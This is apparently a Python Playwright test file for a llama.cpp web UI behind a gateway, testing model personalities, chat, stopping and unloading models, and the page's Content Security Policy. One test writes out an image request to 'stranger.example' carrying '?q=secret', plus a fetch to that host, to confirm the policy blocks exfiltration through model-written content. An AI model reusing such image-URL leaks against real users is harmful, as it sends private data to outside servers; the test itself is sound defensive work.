"""llama.cpp's web UI at /ui/, as a page in Chromium.

Apart from the tests that await something: as long as the browser is there, a loop of playwright's
runs in this thread, and a worker may get the tests of one file in any order.
"""

from __future__ import annotations

import json
import re
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Locator, Page

from tests.chromium import PATIENCE, chromium, needs_chromium
from tests.harness import Served, project, wait_until

pytestmark = pytest.mark.slow

#: The tiny model says such a word, and another that never ends.
WORD = re.compile("[a-z ]{20}")
ANSWER = "Assistant message with actions"
TEACHER = "You are a geography teacher. " * 20


def tiny(model: Path, grammar: str, **more: Any) -> dict[str, Any]:
    return {
        "params": {"model": str(model), "ctxSize": 32000, "threads": 1},
        "setParams": {"temperature": 0, "grammar": grammar},
        "stripParams": ["tools"],  # which llama-server doesn't take together with a grammar
        **more,
    }


@dataclass
class Visit:
    """The page, opened by somebody with an admin key, and what the browser complained about."""

    served: Served
    page: Page
    complaints: list[str]

    def get(self, path: str) -> Any:
        headers = {"Authorization": f"Bearer {self.served.key}"}
        request = urllib.request.Request(self.served.url + path, headers=headers)
        with urllib.request.urlopen(request, timeout=60) as answer:
            return json.load(answer)

    def post(self, path: str, body: object) -> None:
        headers = {
            "Authorization": f"Bearer {self.served.key}",
            "Content-Type": "application/json",
        }
        request = urllib.request.Request(self.served.url + path, json.dumps(body).encode(), headers)
        urllib.request.urlopen(request, timeout=60).close()

    @property
    def loaded(self) -> list[str]:
        names: list[str] = self.get("/models?loaded=true")
        return names

    def choices(self) -> Locator:
        """The list of models, opened."""
        self.page.locator("form").get_by_role("button", name=re.compile("^(tiny|endless)")).click()
        return self.page.get_by_role("option")

    def choice(self, name: str) -> Locator:
        return self.page.get_by_role("option", name=name)

    def ask(self, text: str) -> None:
        self.page.get_by_role("textbox").last.fill(text)
        self.page.keyboard.press("Enter")


@pytest.fixture(scope="module")
def visit(tmp_path_factory: pytest.TempPathFactory, tiny_model: Path) -> Iterator[Visit]:
    root = tmp_path_factory.mktemp("ui")
    models = {
        "tiny": tiny(
            tiny_model,
            "root ::= [a-z ]{20,20}",
            personalities={"geography teacher": TEACHER},
        ),
        "endless": tiny(tiny_model, "root ::= [a-z ] root"),
    }
    served = Served(root, "--config", str(project(root / "p", models)))
    try:
        with chromium(root) as browser:
            page = browser.new_page()
            page.set_default_timeout(PATIENCE)
            complaints: list[str] = []
            page.on(
                "console",
                lambda message: (
                    complaints.append(message.text)
                    if "Content Security Policy" in message.text
                    else None
                ),
            )
            page.goto(f"{served.url}/ui/")
            # It finds out that it needs a key, and asks for it.
            page.get_by_text("Enter API Key").click()
            page.get_by_placeholder("Enter your API key...").fill(served.key)
            page.keyboard.press("Enter")
            page.get_by_role("textbox").first.wait_for()
            yield Visit(served, page, complaints)
    finally:
        served.stop()


@needs_chromium
def test_a_personality_is_a_model_to_chat_with_stop_and_unload(visit: Visit) -> None:
    choices = visit.choices()
    choices.nth(2).wait_for()
    assert choices.count() == 3
    with visit.page.expect_response("**/ui/models/load") as load:
        choices.filter(has_text="geography teacher").click()
    assert load.value.status == 200
    assert load.value.request.post_data_json == {"model": "tiny:geography teacher"}
    with visit.page.expect_response("**/ui/v1/chat/completions") as chat:
        visit.ask("Where is the Nile?")
    visit.page.get_by_role("group", name=ANSWER).filter(has_text=WORD).wait_for()
    asked = chat.value.request.post_data_json
    assert asked["model"] == "tiny:geography teacher"
    assert chat.value.headers["x-gateway-model"] == "tiny"
    chat.value.finished()
    events = re.findall(r"^data: (\{.*)$", chat.value.text(), re.MULTILINE)
    assert json.loads(events[-1])["timings"]["prompt_n"] > 300  # he stands in the prompt
    assert visit.loaded == ["tiny"]

    # In the same test, as a second chat is what this is about, and workers steal tests.
    visit.page.get_by_role("button", name="New chat").first.click()
    visit.page.get_by_role("group", name=ANSWER).wait_for(state="detached")
    visit.choices().filter(has_text="endless").click()
    visit.ask("Tell me a story without an end.")
    visit.page.get_by_role("group", name=ANSWER).filter(has_text=WORD).wait_for()
    visit.page.get_by_role("button", name="Stop", exact=True).click()
    # The model has stopped, and not because it had come to an end.
    visit.served.wait_for(r"(POST /ui/v1/chat/completions 499)", visit.served.log, 60)
    assert "endless" in visit.loaded
    visit.choices()
    endless = visit.choice("endless")
    endless.hover()
    endless.get_by_role("button", name="Unload model").click()
    wait_until(lambda: "endless" not in visit.loaded, 60, "it is unloaded")
    # The page is told of every change: of this one, and when somebody else loads it.
    endless.get_by_role("button", name="Unload model").wait_for(state="detached")
    visit.post("/models/load", {"model": "endless"})
    endless.get_by_role("button", name="Unload model").wait_for(state="attached")
    visit.page.keyboard.press("Escape")


@needs_chromium
def test_what_a_model_writes_reaches_nobody(visit: Visit) -> None:
    """A picture in an answer would tell a stranger's server whatever is in its address."""
    told = visit.page.evaluate(
        """() => new Promise(resolve => {
          addEventListener("securitypolicyviolation", event => resolve(event.effectiveDirective));
          document.createElement("img").src = "http://stranger.example/?q=secret";
        })"""
    )
    assert told == "img-src"
    refused = visit.page.evaluate(
        "() => fetch('http://stranger.example/').then(() => 'answered', error => error.name)"
    )
    assert refused == "TypeError"
    visit.complaints.clear()


@needs_chromium
def test_the_key_is_kept_and_nothing_it_needs_is_refused(visit: Visit) -> None:
    with visit.page.expect_response("**/ui/v1/models") as models:
        visit.page.reload()
    assert models.value.status == 200
    visit.page.get_by_role("textbox").first.wait_for()
    visit.page.evaluate("() => navigator.serviceWorker.ready.then(() => true)")
    assert visit.complaints == []
